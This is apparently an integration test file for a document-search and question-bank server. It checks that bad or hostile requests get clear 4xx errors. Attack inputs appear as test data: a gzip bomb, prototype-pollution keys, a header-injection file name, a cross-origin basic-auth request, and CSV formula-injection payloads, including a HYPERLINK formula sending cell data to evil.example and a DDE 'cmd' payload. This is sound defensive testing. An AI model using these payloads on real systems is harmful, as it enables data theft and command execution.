import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { DataSource } from 'typeorm';
import { EMBEDDER } from '../providers/providers.module';
import type { Json } from './helpers/http';
import { seedDocuments } from './helpers/seed-documents';
import { startTestApp } from './helpers/test-app';
import type { TestApp } from './helpers/test-app';
import { testEnv } from './helpers/test-env';
import { SETUP_TIMEOUT_MS } from './helpers/hook-timeouts';

const ADMIN_KEY = 'client-mistakes-admin-key-0123456789';
const admin = { 'x-api-key': ADMIN_KEY };

interface Answer {
  status: number;
  body: Json;
  text: string;
  headers: Headers;
}

/**
 * Client mistakes and tricks a client might try: each must be a clear 4xx with a message (never a
 * 500, a crash or silently changed data), and the server must stay healthy after it.
 */
describe('client mistakes get a 400 with a message (real server, embedded PGlite, real Redis)', () => {
  let server: TestApp;
  let dataSource: DataSource;
  let uploadRoot: string;
  const ids = { document: '', bank: '', conversation: '', template: '' };

  async function call(path: string, init: RequestInit = {}): Promise<Answer> {
    const response = await fetch(`${server.baseUrl}${path}`, {
      ...init,
      headers: { ...admin, ...(init.headers as Record<string, string> | undefined) },
    });
    const text = await response.text();
    let body: Json = null;
    try {
      body = JSON.parse(text);
    } catch {
      // CSV, HTML: keep the text
    }
    return { status: response.status, body, text, headers: response.headers };
  }
  const postJson = (path: string, body: unknown, headers: Record<string, string> = {}) =>
    call(path, {
      method: 'POST',
      headers: { 'content-type': 'application/json', ...headers },
      body: typeof body === 'string' || Buffer.isBuffer(body) ? body : JSON.stringify(body),
    });
  const postForm = (path: string, form: string) =>
    call(path, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: form,
    });
  const message = (answer: Answer) =>
    Array.isArray(answer.body?.message) ? answer.body.message.join('; ') : String(answer.body?.message);

  /** A clear 4xx: the status, JSON with the same statusCode, a message matching `pattern`, no stack trace. */
  async function expectRefused(answer: Answer, status: number, pattern: RegExp): Promise<void> {
    expect({ status: answer.status, text: answer.text.slice(0, 300) }).toEqual({
      status,
      text: answer.text.slice(0, 300),
    });
    expect(answer.headers.get('content-type')).toMatch(/^application\/json/);
    expect(answer.body.statusCode).toBe(status);
    expect(message(answer)).toMatch(pattern);
    expect(answer.text).not.toMatch(/\bat \S+ \(|node_modules|\.ts:\d+/);
    expect((await call('/health')).status).toBe(200);
  }

  function multipart(fileName: Buffer | string, content: string, extraDisposition = ''): RequestInit {
    const boundary = '----mistakes' + Math.random().toString(36).slice(2);
    const name = Buffer.isBuffer(fileName) ? fileName : Buffer.from(fileName, 'utf8');
    return {
      method: 'POST',
      headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
      body: Buffer.concat([
        Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="files"; filename="`),
        name,
        Buffer.from(
          `"${extraDisposition}\r\nContent-Type: text/plain\r\n\r\n${content}\r\n--${boundary}--\r\n`,
        ),
      ]),
    };
  }

  async function settledDocument(sourceName: string): Promise<{ title: string; source_name: string }> {
    const deadline = Date.now() + 30_000;
    for (;;) {
      const rows = await dataSource.query(
        `SELECT title, source_name, status FROM documents WHERE source_name = $1`,
        [sourceName],
      );
      if (rows.length === 1 && ['indexed', 'failed'].includes(rows[0].status)) return rows[0];
      if (Date.now() > deadline)
        throw new Error(`document ${sourceName} did not settle: ${JSON.stringify(rows)}`);
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
  }

  beforeAll(async () => {
    uploadRoot = mkdtempSync(join(tmpdir(), 'lumina-mistakes-'));
    server = await startTestApp(
      testEnv({
        ADMIN_API_KEY: ADMIN_KEY,
        UPLOAD_DIR: join(uploadRoot, 'uploads'),
        REQUEST_BODY_LIMIT: '64kb',
      }),
    );
    dataSource = server.app.get(DataSource);
    [ids.document] = await seedDocuments(dataSource, server.app.get(EMBEDDER), [
      { title: 'Failover runbook', text: 'Promote the replica, then repoint the writers at it.' },
    ]);
    const bank = await postJson('/question-banks', { name: 'Mistakes bank' });
    expect(bank.status).toBe(201);
    ids.bank = bank.body.id;
    const template = await postJson('/question-templates', {
      name: 'Mistakes template',
      kind: 'definition',
      promptTemplate: 'Ask about {{passage}}',
    });
    expect(template.status).toBe(201);
    ids.template = template.body.id;
    const chat = await call('/chat', {
      method: 'POST',
      headers: { 'content-type': 'application/json', accept: 'text/event-stream' },
      body: JSON.stringify({ message: 'How do I fail over?' }),
    });
    expect(chat.status).toBe(200);
    const [conversation] = await dataSource.query(`SELECT id FROM conversations LIMIT 1`);
    ids.conversation = conversation.id;
  }, SETUP_TIMEOUT_MS);

  afterAll(async () => {
    await server?.close();
    rmSync(uploadRoot, { recursive: true, force: true });
  });

  const lists = () => [
    '/documents',
    `/documents/${ids.document}/chunks`,
    '/question-banks',
    `/question-banks/by-template/${ids.template}`,
    `/question-banks/${ids.bank}/items`,
    '/question-templates',
    '/conversations',
    `/conversations/${ids.conversation}`,
    '/eval-runs',
    '/auth/keys',
  ];

  describe('huge page numbers on every paginated list', () => {
    it('page=1e18 (past the database integer range) is a 400 on every list, not a 500', async () => {
      for (const list of lists()) {
        const answer = await call(`${list}?page=1e18`);
        expect({ list, status: answer.status }).toEqual({ list, status: 400 });
        await expectRefused(answer, 400, /page must be at most 1000000/);
      }
    });

    it('other huge or odd pages and limits: 400 with the reason, or capped', async () => {
      for (const list of lists()) {
        for (const query of [
          'page=1e400',
          'page=9007199254740993',
          'page=1000001',
          'page=1&page=2',
          'limit=0',
        ]) {
          const answer = await call(`${list}?${query}`);
          expect({ list, query, status: answer.status }).toEqual({ list, query, status: 400 });
          expect(message(answer)).toMatch(/page|limit/);
        }
        const capped = await call(`${list}?limit=1e18&page=1000000`);
        // A conversation's page of messages sits inside the conversation.
        const limit = capped.body?.limit ?? capped.body?.messages?.limit;
        expect({ list, status: capped.status, limit }).toEqual({ list, status: 200, limit: 100 });
      }
    });
  });

  describe('bodies that are not what their headers say', () => {
    it('a bogus Content-Encoding: gzip (the body is plain JSON) is a 400', async () => {
      const answer = await postJson('/rag/search', { query: 'failover' }, { 'content-encoding': 'gzip' });
      await expectRefused(answer, 400, /Content-Encoding.*decompress/);
    });

    it('bogus deflate and brotli bodies are 400 too; an unknown encoding is 415', async () => {
      for (const encoding of ['deflate', 'br']) {
        await expectRefused(
          await postJson('/rag/search', 'not compressed at all', { 'content-encoding': encoding }),
          400,
          /Content-Encoding/,
        );
      }
      await expectRefused(
        await postJson('/rag/search', { query: 'failover' }, { 'content-encoding': 'x-evil' }),
        415,
        /content encoding/,
      );
    });

    it('an upload with a Content-Encoding (bogus gzip) is a 415, and nothing is stored', async () => {
      const init = multipart('gzipped-upload.txt', 'Plain text, though the header says gzip.');
      const answer = await call('/documents', {
        ...init,
        headers: { ...(init.headers as Record<string, string>), 'content-encoding': 'gzip' },
      });
      await expectRefused(answer, 415, /without a Content-Encoding/);
      const [row] = await dataSource.query(
        `SELECT count(*)::int AS n FROM documents WHERE source_name = 'gzipped-upload.txt'`,
      );
      expect(row.n).toBe(0);
    });

    it('real gzip is accepted; a gzip bomb is measured decompressed and refused with 413', async () => {
      const real = await postJson('/rag/search', gzipSync(JSON.stringify({ query: 'failover' })), {
        'content-encoding': 'gzip',
      });
      expect(real.status).toBe(200);
      // 50 MB of spaces inside a valid JSON string, about 50 kB compressed.
      const bomb = gzipSync(
        Buffer.concat([Buffer.from('{"query":"'), Buffer.alloc(50 * 1024 * 1024, 32), Buffer.from('"}')]),
      );
      expect(bomb.length).toBeLessThan(64 * 1024);
      await expectRefused(
        await postJson('/rag/search', bomb, { 'content-encoding': 'gzip' }),
        413,
        /larger than the limit of 64kb/,
      );
    });

    it('urlencoded nesting past the parser depth limit is a 400', async () => {
      const deep = `${'a' + '[a]'.repeat(40)}=1`;
      await expectRefused(await postForm('/question-banks', deep), 400, /nested more than 32 levels/);
    });

    it('too many form fields is a 400, not a 500', async () => {
      const many = Array.from({ length: 2000 }, (_, i) => `f${i}=1`).join('&');
      await expectRefused(await postForm('/question-banks', many), 400, /could not be read/);
    });

    it('a JSON body in a charset other than UTF (latin1) is a 415', async () => {
      const answer = await postJson('/rag/search', Buffer.from(JSON.stringify({ query: 'café' }), 'latin1'), {
        'content-type': 'application/json; charset=latin1',
      });
      await expectRefused(answer, 415, /UTF-8/);
    });
  });

  describe('prototype keys are refused, never dropped silently', () => {
    const banksNamed = async (name: string) =>
      Number(
        (await dataSource.query(`SELECT count(*)::int AS n FROM question_banks WHERE name = $1`, [name]))[0]
          .n,
      );

    it('a "constructor" key in JSON, at the top or nested, is a 400', async () => {
      await expectRefused(
        await postJson('/rag/search', '{"query":"failover","constructor":{"prototype":{"polluted":1}}}'),
        400,
        /must not contain a "constructor" key/,
      );
      await expectRefused(
        await postJson('/question-banks', '{"name":"proto-json","tags":[],"constructor":1}'),
        400,
        /"constructor" key/,
      );
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
      expect(await banksNamed('proto-json')).toBe(0);
    });

    it('__proto__ and constructor keys in a urlencoded form are a 400 (the parser would drop them)', async () => {
      for (const form of [
        'name=proto-form&__proto__[admin]=1',
        'name=proto-form&%5F%5Fproto%5F%5F%5Badmin%5D=1',
        'name=proto-form&constructor[prototype][admin]=1',
        'name=proto-form&a.__proto__.admin=1',
      ]) {
        const answer = await postForm('/question-banks', form);
        expect({ form, status: answer.status }).toEqual({ form, status: 400 });
        await expectRefused(answer, 400, /must not contain a "(__proto__|constructor)" key/);
      }
      expect(({} as Record<string, unknown>).admin).toBeUndefined();
      expect(await banksNamed('proto-form')).toBe(0);
      // The words as values are ordinary text.
      const fine = await postForm('/question-banks', 'name=constructor&description=__proto__');
      expect(fine.status).toBe(201);
    });

    it('__proto__ and constructor in a query string are a 400', async () => {
      for (const query of ['__proto__=1', 'constructor=1', '__proto__[page]=5']) {
        const answer = await call(`/documents?${query}`);
        expect({ query, status: answer.status }).toEqual({ query, status: 400 });
        await expectRefused(answer, 400, /query string must not contain a "(__proto__|constructor)" key/);
      }
    });
  });

  describe('the README and the code agree on query lengths', () => {
    it('a query of exactly 10,000 characters is a 400; 9,999 is searched', async () => {
      await expectRefused(
        await postJson('/rag/search', { query: 'a'.repeat(10_000) }),
        400,
        /query must be shorter than 10000 characters/,
      );
      expect((await postJson('/rag/search', { query: 'a'.repeat(9_999) })).status).toBe(200);
    });
  });

  describe('uploads', () => {
    it('keeps a UTF-8 file name as sent: café-résumé.txt stays café-résumé.txt', async () => {
      const answer = await call(
        '/documents',
        multipart('café-résumé.txt', 'Résumé of the café failover drill.'),
      );
      expect(answer.status).toBe(202);
      expect(answer.text).toContain('café-résumé');
      const stored = await settledDocument('café-résumé.txt');
      expect(stored.source_name).toBe('café-résumé.txt');
      expect(stored.title).toMatch(/^café-résumé/);
    });

    it("reads an RFC 5987 filename* (UTF-8''…) too", async () => {
      const answer = await call(
        '/documents',
        multipart(
          'fallback.txt',
          'Zürich datacenter notes, written once.',
          "; filename*=UTF-8''Z%C3%BCrich-notes.txt",
        ),
      );
      expect(answer.status).toBe(202);
      expect((await settledDocument('Zürich-notes.txt')).source_name).toBe('Zürich-notes.txt');
    });
  });

  describe('beyond the list: what an attacker would try next', () => {
    it('basic auth (which browsers replay by themselves) from a foreign Origin is refused, and creates nothing', async () => {
      const basic = `Basic ${Buffer.from(`admin:${ADMIN_KEY}`).toString('base64')}`;
      const answer = await fetch(`${server.baseUrl}/question-banks`, {
        method: 'POST',
        headers: {
          authorization: basic,
          origin: 'http://evil.example',
          'content-type': 'application/x-www-form-urlencoded',
        },
        body: 'name=planted-by-basic-auth',
      });
      const body: Json = await answer.json();
      expect({ status: answer.status, message: body.message }).toEqual({
        status: 403,
        message: expect.stringMatching(/evil\.example.*WEB_ORIGIN/),
      });
      const [row] = await dataSource.query(
        `SELECT count(*)::int AS n FROM question_banks WHERE name = 'planted-by-basic-auth'`,
      );
      expect(row.n).toBe(0);
      // The same credential without a foreign Origin (curl, Prometheus) works as before.
      const plain = await fetch(`${server.baseUrl}/auth/me`, { headers: { authorization: basic } });
      expect(plain.status).toBe(200);
    });

    it('a bank name built to break the export header stays one safe file name', async () => {
      const bank = await postJson('/question-banks', { name: 'x"; filename=evil.exe\r\nSet-Cookie: a=b' });
      expect(bank.status).toBe(201);
      const exported = await call(`/question-banks/${bank.body.id}/export?format=csv`);
      expect(exported.status).toBe(200);
      expect(exported.headers.get('content-disposition')).toMatch(/^attachment; filename="[a-z0-9-]+\.csv"$/);
      expect(exported.headers.get('set-cookie')).toBeNull();
    });

    it('a form body sent to a JSON-only route with a key is validated like JSON (no type confusion)', async () => {
      const answer = await postForm('/rag/search', 'query=failover&settings[topK]=100000');
      expect(answer.status).toBe(400);
      expect(message(answer)).toMatch(/topK|settings/);
    });
  });

  describe('CSV export', () => {
    it('makes cells that start with = + - @ (or tab/CR) inert with a single quote, and re-imports them intact', async () => {
      const questions = [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the answer")',
        "+1+cmd|' /C calc'!A0",
        '-2+3',
        '@SUM(A1:A9)',
        'What is 1+1? (plain)',
      ];
      for (const question of questions) {
        const item = await postJson(`/question-banks/${ids.bank}/items`, { question });
        expect({ question, status: item.status }).toEqual({ question, status: 201 });
      }
      const csv = await call(`/question-banks/${ids.bank}/export?format=csv`);
      expect(csv.status).toBe(200);
      const rows = csv.text.split('\r\n');
      const column = rows[0].split(',').indexOf('question');
      expect(column).toBeGreaterThanOrEqual(0);
      // No line of the export starts a cell with a live formula character.
      for (const question of questions.slice(0, 4)) {
        const quoted = question.includes('"') || question.includes(',') || /^\s/.test(question);
        const cell = quoted ? `"'${question.replace(/"/g, '""')}"` : `'${question}`;
        expect(csv.text).toContain(cell);
      }
      expect(csv.text).toContain('What is 1+1? (plain)');
      expect(csv.text).not.toMatch(/(^|,)[=+\-@]/m);

      const copy = await postJson('/question-banks', { name: 'Re-imported' });
      const imported = await postJson(`/question-banks/${copy.body.id}/import`, {
        format: 'csv',
        csv: csv.text,
      });
      expect(imported.status).toBe(200);
      const items = await call(`/question-banks/${copy.body.id}/items?limit=100`);
      expect(items.body.items.map((item: { question: string }) => item.question).sort()).toEqual(
        [...questions].sort(),
      );
    });
  });
});
